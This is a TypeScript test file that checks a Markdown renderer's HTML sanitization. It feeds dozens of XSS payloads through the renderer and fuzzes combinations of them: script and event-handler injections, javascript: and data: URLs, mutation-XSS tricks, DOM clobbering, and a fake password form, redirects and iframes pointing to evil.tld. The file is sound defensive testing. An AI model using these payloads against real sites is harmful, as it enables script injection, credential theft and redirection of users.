import fc from 'fast-check'
import type { Root } from 'hast'
import rehypeRaw from 'rehype-raw'
import { unified } from 'unified'
import { visit } from 'unist-util-visit'
import { expect, test } from 'vitest'
import { anyCharacter } from '#tests/any-character.ts'
import { runs } from '#tests/property-runs.ts'
import { renderMarkdown } from './render-markdown.server.ts'

const render = (markdown: string) => renderMarkdown({ markdown, baseLevel: 2, title: '', locale: 'en' })

const elements = new Set(
  `a abbr b blockquote br caption cite code dd del details div dl dt em figcaption figure h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q
   rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead tr u ul var`.split(
    /\s+/,
  ),
)
const attributes = new Set(
  `align alt ariaLabel className colSpan decoding height href id loading open referrerPolicy rel role rowSpan src start tabIndex title
   width`.split(/\s+/),
)

/** Reads the HTML as a browser would and fails on whatever is not known to be harmless. */
function expectHarmless(html: string): void {
  const fragment: Root = { type: 'root', children: [{ type: 'raw', value: html }] }
  visit(unified().use(rehypeRaw).runSync(fragment), (node) => {
    if (node.type === 'root' || node.type === 'text') return
    if (node.type !== 'element') throw new Error(`${node.type} in ${html}`)
    expect(elements, html).toContain(node.tagName)
    for (const [name, value] of Object.entries(node.properties)) {
      expect(attributes, html).toContain(name)
      if (name === 'href') expect(String(value), html).toMatch(/^(https?:\/\/|mailto:|[/#?])/i)
      if (name === 'src') expect(String(value), html).toMatch(/^(https:\/\/|\/media\/)/i)
      if (name === 'id') expect(String(value), html).toMatch(/^isi-/)
    }
  })
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.tld/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img/src=`x`onerror=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="java&#x09;script:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '[a](javascript:alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](  javascript:alert(1))',
  '[a][b]\n\n[b]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
  '![a"onerror="alert(1)](https://a.b/c.png)',
  '![a](https://a.b/c.png "onload=alert(1)")',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<iframe src="https://evil.tld"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.tld/x.swf">',
  '<form action="https://evil.tld"><input name=password type=password><button>OK</button></form>',
  '<button formaction="javascript:alert(1)">a</button>',
  '<input onfocus=alert(1) autofocus>',
  '<textarea></textarea><script>alert(1)</script>',
  '<select><option><script>alert(1)</script></option></select>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">a</p>',
  '<p class="fixed inset-0">a</p>',
  '<div id="user" name="user">a</div>',
  '<a id="attributes">a</a><a id=attributes name=action>b</a>',
  '<h1 id="__proto__">a</h1>',
  '# constructor\n\n# __proto__',
  '<base href="https://evil.tld">',
  '<meta http-equiv="refresh" content="0;url=https://evil.tld">',
  '<link rel="stylesheet" href="https://evil.tld/x.css">',
  '<details open ontoggle=alert(1)>a</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)>',
  '<table background="javascript:alert(1)"><td style="x">a</table>',
  '<!--><script>alert(1)</script>-->',
  '<!--\n--!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title></title><script>alert(1)</script>',
  '```"onmouseover="alert(1)\ncode\n```',
  '`<script>alert(1)</script>`',
  '<https://a.b/"onmouseover="alert(1)>',
  'https://a.b/"onmouseover=alert(1)',
  '[^<script>]\n\n[^<script>]: <script>alert(1)</script>',
  '<p is="x-evil" slot=a contenteditable accesskey=x>a</p>',
  '<a href="https://a.b" target="_blank" ping="https://evil.tld" download>a</a>',
  '<img src="https://a.b/c.png" srcset="https://evil.tld/x 2x" usemap="#m" longdesc="javascript:alert(1)">',
  '<img src="/media/../auth/signout">',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<div data-intent="delete" popover popovertarget=x aria-hidden=true role=alert tabindex=9>a</div>',
]

test.each(attacks)('leaves nothing harmful of %s', (attack) => {
  expectHarmless(render(attack))
  expectHarmless(renderMarkdown({ markdown: attack, baseLevel: 3, title: '', locale: 'id', showsTags: true }))
  expectHarmless(render(`> - a\n>   ${attack}\n\n| a |\n|---|\n| ${attack.replaceAll('\n', ' ')} |`))
})

test('whatever is written, only what is known to be harmless comes out', () => {
  const pieces = fc.constantFrom(
    ...attacks,
    ...[
      '<',
      '>',
      '"',
      "'",
      '`',
      '&',
      '\n',
      '\n\n',
      '\t',
      '    ',
      '> ',
      '- ',
      '1. ',
      '| a |\n|-|\n',
      '```\n',
      '~~~',
      '**',
      '__',
      '~~',
    ],
    ...[
      '[',
      ']',
      '](',
      ')',
      '![',
      '[^1]',
      '[^1]: ',
      '<b>',
      '</b>',
      '<p',
      '<svg>',
      '<math>',
      '</math>',
      '<table>',
      '<tr>',
      '</table>',
    ],
    ...[
      '<style>',
      '</style>',
      '<title>',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<a href="',
      'javascript:',
      '\u0000',
      '\u2028',
      '&#0;',
    ],
  )
  const text = fc.array(fc.oneof({ weight: 4, arbitrary: pieces }, fc.string({ unit: anyCharacter })), {
    maxLength: 12,
  })
  fc.assert(
    fc.property(text, (parts) => expectHarmless(render(parts.join('')))),
    runs(100),
  )
})
